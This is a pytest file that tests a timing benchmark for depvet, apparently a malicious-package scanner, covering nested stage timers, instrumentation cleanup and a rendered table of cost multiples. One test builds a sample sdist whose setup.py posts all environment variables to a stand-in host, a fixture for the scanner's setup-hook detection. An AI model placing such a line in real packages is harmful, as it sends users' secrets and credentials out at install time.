"""The stage benchmark times what it says, restores depvet, and reports multiples of the floor."""

from __future__ import annotations

import ast
import io
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from benchmarks import stages
from benchmarks.stages import Stages, Timers, mixed, render, stages_one, summarize
from depvet.detectors import pysource, registry


def test_timers_count_nested_stages_once() -> None:
    ticks: Iterator[float] = iter([0.0, 1.0, 3.0, 10.0])
    timers = Timers(clock=lambda: next(ticks))
    with timers.stage("outer"), timers.stage("inner"):
        pass
    assert timers.seconds == {"outer": 8.0, "inner": 2.0}


@pytest.fixture
def installed(monkeypatch: pytest.MonkeyPatch) -> Timers:
    """Timers installed as in a benchmark worker, taken out again after the test."""
    monkeypatch.setattr(ast, "parse", ast.parse)
    monkeypatch.setattr(pysource.ModuleAnalysis, "__init__", pysource.ModuleAnalysis.__init__)
    for detector in registry.detectors():
        kind = type(detector)
        monkeypatch.setattr(kind, "scan", kind.scan)
        if hasattr(kind, "expand"):
            monkeypatch.setattr(kind, "expand", kind.expand)
    timers = Timers()
    monkeypatch.setattr(stages, "TIMERS", timers)
    stages.install(timers)
    return timers


def test_an_sdist_is_timed_by_stage_and_depvet_is_left_whole(
    tmp_path: Path, installed: Timers
) -> None:
    sdist = tmp_path / "demo-1.0.tar.gz"
    source = (
        b"import os\nimport requests\nrequests.post('https://example.invalid', data=os.environ)\n"
    )
    with tarfile.open(sdist, "w:gz") as tar:
        for name, data in {"demo-1.0/setup.py": source, "demo-1.0/README": b"demo"}.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    every = registry.detectors
    cost = stages_one(str(sdist))
    assert registry.detectors is every  # the no-detector pass put the registry back
    assert cost.floor > 0 and cost.depvet > 0 and cost.pipeline > 0
    assert cost.stages[stages.PARSE] > 0 and cost.stages[stages.ANALYSIS] > 0
    assert cost.stages["detector SetupHookDetector"] > 0
    assert sum(cost.stages.values()) <= cost.depvet


def test_multiples_of_the_floor_per_set_and_over_the_mixed_set() -> None:
    wheel = summarize(
        [
            Stages(floor=1.0, depvet=6.0, pipeline=1.5, stages={"parse": 2.0, "analysis": 1.0}),
            Stages(floor=1.0, depvet=4.0, pipeline=1.0, stages={"parse": 1.0, "detector X": 0.5}),
        ],
        size=20,
    )
    assert wheel["without_parsing_s"] == 6.0
    assert list(wheel["stages_s"]) == ["parse", "analysis", "detector X"]
    malware = summarize([Stages(floor=0.5, depvet=1.0, pipeline=0.5, stages={})], size=100)
    # Per artifact: wheels 1.0 s of floor, 5.0 s of depvet, 20 of them; malware 0.5 and 1.0, 100.
    whole = mixed({"benign-wheel": wheel, "malicious": malware})
    assert whole["depvet_s"] == pytest.approx((5.0 * 20 + 1.0 * 100) / (1.0 * 20 + 0.5 * 100))
    section = render(
        {
            "jobs": 2,
            "sample": 0,
            "machine": {"date": "2026-01-01 00:00 UTC", "nproc": 2, "python": "3.11.7"},
            "sets": {"benign-wheel": wheel, "malicious": malware},
        }
    )
    assert section.startswith("<!-- stages -->") and section.endswith("<!-- /stages -->")
    assert "`python -m benchmarks.stages --write-docs`" in section
    assert "| **depvet** | 5.00x | 2.00x |" in section
    assert "| parser (`ast.parse`) | 1.50x | 0.00x |" in section
    assert "| detector `X` | 0.25x | 0.00x |" in section
    # rest: 10.0 - 2.5 - 4.5 = 3.0 s of 2.0 s of floor
    assert "| rest | 1.50x | 1.00x |" in section
    assert "| **without parsing** | 3.00x | 2.00x |" in section
